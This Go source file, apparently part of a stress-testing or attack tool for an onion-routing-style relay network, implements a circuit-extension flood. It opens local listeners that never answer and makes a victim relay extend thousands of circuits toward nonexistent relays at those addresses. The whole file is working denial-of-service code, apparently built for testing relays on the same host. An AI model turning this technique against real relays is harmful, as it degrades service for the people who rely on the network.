package flood

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"net"
	"net/netip"

	"github.com/chivenet/chive/internal/cell"
	"github.com/chivenet/chive/internal/channel"
	"github.com/chivenet/chive/internal/fault"
	"github.com/chivenet/chive/internal/handshake"
	"github.com/chivenet/chive/internal/linkspec"
)

// extendHole extends circuits to unknown relays, all at an address that accepts
// connections and never answers.
func extendHole(ctx context.Context, a *attack) error { return a.extend(ctx, 1) }

// extendMany names many such addresses in each extend.
func extendMany(ctx context.Context, a *attack) error { return a.extend(ctx, 8) }

// circuitsPerChannel is how many circuits wait on one channel at most.
const circuitsPerChannel = 2_000

func (a *attack) extend(ctx context.Context, addrs int) error {
	holes := make([]netip.AddrPort, addrs)
	for i := range holes {
		ln, err := net.Listen("tcp", "127.0.0.1:0") // the kernel takes the connections
		if err != nil {
			return fault.Wrap(fault.Local, err)
		}
		defer ln.Close()
		holes[i] = ln.Addr().(*net.TCPAddr).AddrPort()
	}
	return a.channels(ctx, func(ctx context.Context, ch *channel.Channel, _ *gated) error {
		err := a.many(ctx, ch, circuitsPerChannel, func(ctx context.Context) error {
			if !a.rate.take(ctx, 1) {
				return nil
			}
			c, err := build(ctx, a, ch, nil, &a.Victim)
			if err != nil {
				return err
			}
			m := cell.Extend2{Specs: nobody(holes), Type: cell.HandshakeNtor, Data: random(handshake.Ntor.SkinLen)}
			if err := c.Last().SendEarly(cell.RelayExtend2, 0, m.Append(nil)); err != nil {
				return err
			}
			a.sent.Add(1)
			return nil
		})
		if err != nil {
			return err
		}
		return stay(ctx, ch)
	})
}

// nobody returns the link specifiers of a relay that does not exist.
func nobody(at []netip.AddrPort) []byte {
	var specs []linkspec.Spec
	for _, a := range at {
		ip := a.Addr().As4()
		specs = append(specs, linkspec.Spec{Type: linkspec.TypeIPv4, Body: binary.BigEndian.AppendUint16(ip[:], a.Port())})
	}
	specs = append(specs, linkspec.Spec{Type: linkspec.TypeRSA, Body: random(20)}, linkspec.Spec{Type: linkspec.TypeEd25519, Body: random(32)})
	return linkspec.Append(nil, specs)
}

func random(n int) []byte {
	b := make([]byte, n)
	_, _ = rand.Read(b) // which does not fail
	return b
}
